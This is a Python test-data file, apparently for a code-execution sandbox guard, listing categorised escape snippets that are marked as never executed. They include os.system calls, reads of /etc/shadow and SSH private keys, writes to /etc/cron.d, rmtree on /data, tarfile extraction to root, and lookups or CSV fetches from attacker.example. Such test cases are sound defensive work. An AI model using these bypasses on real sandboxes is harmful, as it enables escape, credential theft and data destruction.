"""Escapes written with the guard's source in hand (issue 21): each class of hole in several variants. Never
executed.

Categories: scopes, own-objects, library-access, format-strings, file-readers, reads-to-writes, network-loops,
module-patching; DATA_ESCAPES: data-io.
"""

from __future__ import annotations

INFORMED: list[tuple[str, str]] = [
    # --- scopes: a name bound somewhere else must not make a free use look bound ------------------------------
    ("scopes", "f = lambda __builtins__: 0\n__builtins__['__import__']('os').system('id')"),
    ("scopes", "def f():\n    global __loader__\n__loader__.load_module('os').system('id')"),
    ("scopes", "try:\n    pass\nexcept Exception as __builtins__:\n    pass\nprint(__builtins__['eval'])"),
    ("scopes", "def f(__spec__=None):\n    return 1\nprint(__spec__.loader.load_module('os'))"),
    ("scopes", "g = [0 for __builtins__ in range(1)]\nprint(__builtins__['exec'])"),
    ("scopes", "def f(*, __loader__=1):\n    pass\n__loader__.load_module('posix').system('id')"),
    ("scopes", "import json as __builtins__\nprint(__builtins__.__dict__)"),
    ("scopes", "class __builtins__:\n    pass\nprint(__builtins__)"),
    ("scopes", "g = lambda os: os\nos.system('id')"),
    ("scopes", "def helper(subprocess=None):\n    return subprocess\nsubprocess.run(['id'])"),
    ("scopes", "def f():\n    import json as os\nos.system('id')"),
    ("scopes", "class K:\n    import json as os\nos.system('id')"),
    ("scopes", "if False:\n    os = None\nos.system('id')"),
    ("scopes", "for os in []:\n    pass\nos.system('id')"),
    ("scopes", "x = [os for os in range(3)]\nos.system('id')"),
    ("scopes", "try:\n    1 / 0\nexcept ZeroDivisionError as sys:\n    pass\nsys.modules['os'].system('id')"),
    ("scopes", "def f():\n    global os\n    os = 1\nos.system('id')"),
    ("scopes", "os = 1\ndel os\nos.system('id')"),
    ("scopes", "class C:\n    os = 1\n    def m(self):\n        return os.system('id')\nC().m()"),
    ("scopes", "with ctx as (a, b):\n    pass\nif a:\n    shutil = a\nshutil.rmtree('/data')"),
    ("scopes", "match cmd:\n    case {'x': os}:\n        pass\nos.system('id')"),
    ("scopes", "(lambda pathlib=None: pathlib)()\npathlib.Path('/etc/passwd').read_text()"),
    # --- own objects: a class whose construction or decoration yields another object -------------------------
    ("own-objects", "class C:\n    __new__ = lambda cls, *a: target\nprint(vars(C()))"),
    ("own-objects", "class C:\n    def __new__(cls):\n        return target\nprint(getattr(C(), name))"),
    ("own-objects", "def deco(cls):\n    return target\n@deco\nclass C:\n    pass\nc = C()\nprint(getattr(c, name))"),
    (
        "own-objects",
        "import functools\n@functools.lru_cache\nclass C:\n    pass\nc = C()\nprint(c.__dict__)",
    ),
    ("own-objects", "class M(type):\n    pass\nclass C(metaclass=M):\n    pass\nprint(vars(C()))"),
    ("own-objects", "class C:\n    def __getattr__(self, n):\n        return 1\nc = C()\nprint(getattr(c, name))"),
    (
        "own-objects",
        "class C:\n    def get(self, name):\n        return getattr(self, name)\nget = C.get\nprint(get(target, name))",
    ),
    (
        "own-objects",
        "class C:\n    def get(self, name):\n        return getattr(self, name)\np = C()\n"
        "print(type(p).get(target, name))",
    ),
    (
        "own-objects",
        "class C:\n    def get(self, name):\n        return getattr(self, name)\nK = C\nprint(K.get(target, name))",
    ),
    (
        "own-objects",
        "class C:\n    def get(self, name):\n        return getattr(self, name)\nprint(vars(C)['get'](target, name))",
    ),
    (
        "own-objects",
        "class C:\n    def get(self, name):\n        return vars(self)[name]\np = C()\n"
        "print(p.__class__.get(target, name))",
    ),
    (
        "own-objects",
        "class C:\n    def put(self, k, v):\n        setattr(self, k, v)\nimport functools\n"
        "functools.partial(C.put, json_module)('dumps', print)",
    ),
    (
        "own-objects",
        "import operator\nclass C:\n    def get(self, name):\n        return getattr(self, name)\n"
        "operator.methodcaller('get', '__globals__')",
    ),
    (
        "own-objects",
        "def wrap(f):\n    return lambda s, n: f(target, n)\nclass C:\n    @wrap\n    def get(self, name):\n"
        "        return getattr(self, name)\nprint(C().get(name))",
    ),
    (
        "own-objects",
        "class C:\n    @classmethod\n    def get(cls, name):\n        return getattr(cls, name)\nprint(C.get(name))",
    ),
    # --- library functions that read or set attributes for the code ---------------------------------------------
    (
        "library-access",
        "import functools\ndef w():\n    pass\nfunctools.update_wrapper(w, target, assigned=(name,))\nprint(w)",
    ),
    ("library-access", "import functools\nfunctools.update_wrapper(w, f, ('__globals__',), ())\nprint(w.__globals__)"),
    ("library-access", "import functools\n@functools.wraps(f, assigned=names)\ndef g():\n    pass"),
    (
        "library-access",
        "from functools import update_wrapper as uw\nimport functools\nfunctools.partial(uw, assigned=[n])(w, f)",
    ),
    (
        "library-access",
        "import dataclasses\nD = dataclasses.make_dataclass('D', [name])\nfor fl in dataclasses.fields(D):\n"
        "    print(getattr(target, fl.name))",
    ),
    ("library-access", "import dataclasses\nD = dataclasses.make_dataclass('D', field_list)"),
    ("library-access", "import dataclasses\nD = dataclasses.make_dataclass('D', [('__globals__', object)])"),
    ("library-access", "import dataclasses\nD = dataclasses.make_dataclass('D', ['x'], namespace={'__getattr__': g})"),
    (
        "library-access",
        "import abc\nclass P(abc.ABC):\n    __match_args__ = (name,)\nP.register(type(target))\n"
        "match target:\n    case P(x):\n        print(x)",
    ),
    ("library-access", "class P:\n    __match_args__ = ('__globals__',)\nmatch f:\n    case P(g):\n        print(g)"),
    ("library-access", "P = type('P', (), {'__match_args__': (name,)})"),
    ("library-access", "X = type('X', (), {k: v})"),
    ("library-access", "X = type('X', (object,), namespace)"),
    ("library-access", "setattr(P, '__match_args__', (name,))"),
    # --- format strings built at run time -------------------------------------------------------------------
    ("format-strings", "fmt = '{0.' + name + '}'\nprint(fmt.format(target))"),
    ("format-strings", "print(template.format(x=1))"),
    ("format-strings", "import functools\nf = functools.partial(str.format, fmt)\nprint(f(target))"),
    ("format-strings", "print(list(map(str.format, fmts, objs)))"),
    ("format-strings", "render = fmt.format_map\nprint(render({'x': target}))"),
    (
        "format-strings",
        "import logging\nh = logging.StreamHandler()\nh.setFormatter(logging.Formatter(fmt, style='{'))",
    ),
    ("format-strings", "import logging\nlogging.basicConfig(format=fmt, style='{')"),
    ("format-strings", "import logging\ns = logging.StrFormatStyle(fmt)\nprint(s.format(record))"),
    ("format-strings", "import operator\noperator.methodcaller('format', target)(fmt)"),
    ("format-strings", "g = getattr(fmt, 'format')\nprint(g(target))"),
    # --- file readers in allowed modules --------------------------------------------------------------------
    ("file-readers", "import warnings\nprint(warnings.formatwarning('m', UserWarning, '/etc/passwd', 1))"),
    ("file-readers", "import warnings\nwarnings.warn_explicit('m', UserWarning, '/etc/shadow', 1)"),
    ("file-readers", "from warnings import showwarning\nshowwarning('m', UserWarning, '/root/.ssh/id_rsa', 1)"),
    ("file-readers", "import zoneinfo\nzoneinfo.reset_tzpath(['/etc'])\nzoneinfo.ZoneInfo('passwd')"),
    (
        "file-readers",
        "import functools\n@functools.singledispatch\ndef f(x):\n    pass\n@f.register\ndef _(x: ann):\n    pass",
    ),
    (
        "file-readers",
        "import typing\nann = \"__import__('os').system('id')\"\ndef f(x: ann):\n    pass\n"
        "print(typing.get_type_hints(f))",
    ),
    ("file-readers", "import typing\nprint(typing.get_type_hints(obj))"),
    # --- reads becoming writes ------------------------------------------------------------------------------
    ("reads-to-writes", "f = open('data.txt', 'rb')\ncls = type(f.raw)\ncls('/tmp/x', 'w').write(b'x')"),
    ("reads-to-writes", "f = open('data.txt')\nf.buffer.raw.__class__('/tmp/x', 'w')"),
    ("reads-to-writes", "f = open('data.txt')\nk = type(f).mro()[0]\nk('/tmp/x', 'w')"),
    ("reads-to-writes", "import sys\nraw = sys.stderr.buffer.raw\ntype(raw)('/etc/cron.d/x', 'w')"),
    ("reads-to-writes", "import tarfile\nt = tarfile.open('a.tar')\nu = t\nu.extract('m', '/')"),
    ("reads-to-writes", "import tarfile\nt = tarfile.open('a.tar')\ntype(t).extract(t, 'm', '/')"),
    ("reads-to-writes", "import tarfile\nt = tarfile.open('a.tar')\nt.makeunknown(t.getmember('x'), '/tmp/y')"),
    ("reads-to-writes", "import tarfile\nt = tarfile.open('a.tar')\nt.chmod(t.getmember('x'), '/etc/passwd')"),
    (
        "reads-to-writes",
        "import tarfile\nwith tarfile.open('a.tar') as t:\n    t.chown(t.getmember('x'), '/etc/passwd', 0)",
    ),
    ("reads-to-writes", "import tarfile\nts = [tarfile.open('a.tar')]\nts[0].extract('m', '/')"),
    # --- network through allowed modules --------------------------------------------------------------------
    (
        "network-loops",
        "import asyncio\nasync def main():\n    loop = asyncio.current_task().get_loop()\n"
        "    print(await loop.getaddrinfo('attacker.example', 80))\nasyncio.run(main())",
    ),
    (
        "network-loops",
        "import asyncio\nasync def main():\n    loop = asyncio.Future().get_loop()\n"
        "    await loop.getnameinfo(('10.0.0.1', 80))\nasyncio.run(main())",
    ),
    ("network-loops", "import asyncio\nasync def m(loop, s):\n    await loop.sock_sendall(s, b'x')"),
    # --- patching shared modules ----------------------------------------------------------------------------
    ("module-patching", "import json\njson.dumps = lambda *a, **k: 'x'"),
    ("module-patching", "import json\njson.JSONEncoder.default = print"),
    ("module-patching", "import json\nsetattr(json, 'loads', print)"),
    ("module-patching", "import json\ndel json.loads"),
    ("module-patching", "import re as r\nr.compile = None"),
    ("module-patching", "from json import JSONDecoder\nJSONDecoder.decode = print"),
    ("module-patching", "f = open('x')\ntype(f).read = print"),
    ("module-patching", "import statistics\nstatistics.mean.__defaults__ = None"),
]

# Measured against GuardPolicy.data_analysis() and default().allow(modules={"numpy", "pandas"}) (strict and default
# refuse numpy and pandas outright, so they are kept out of INFORMED's figures).
DATA_ESCAPES: list[tuple[str, str]] = [
    ("data-io", "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.to_csv('/tmp/out.csv')"),
    ("data-io", "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv(path_or_buf=p)"),
    ("data-io", "import numpy as np\nnp.save('/tmp/x.npy', [1])"),
    ("data-io", "import pandas as pd\nprint(pd.read_pickle('/tmp/x.pkl'))"),
    ("data-io", "import pandas as pd\nprint(pd.read_csv('http://attacker.example/x.csv'))"),
    ("data-io", "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.to_parquet('/tmp/x.parquet')"),
    ("data-io", "import numpy as np\nnp.array([1]).dump('/tmp/x')"),
    ("data-io", "import numpy as np\nnp.load('/tmp/x.npy', allow_pickle=True)"),
    ("data-io", "import pandas as pd\npd.io.parsers.read_csv('/etc/passwd')"),
    ("data-io", "import numpy as np\nnp.savetxt('/tmp/x.txt', [1])"),
    ("data-io", "import pandas as pd\nreader = pd.read_csv\nreader('/etc/passwd')"),
    ("data-io", "import pandas as pd\nprint(pd.eval('df.__class__'))"),
]
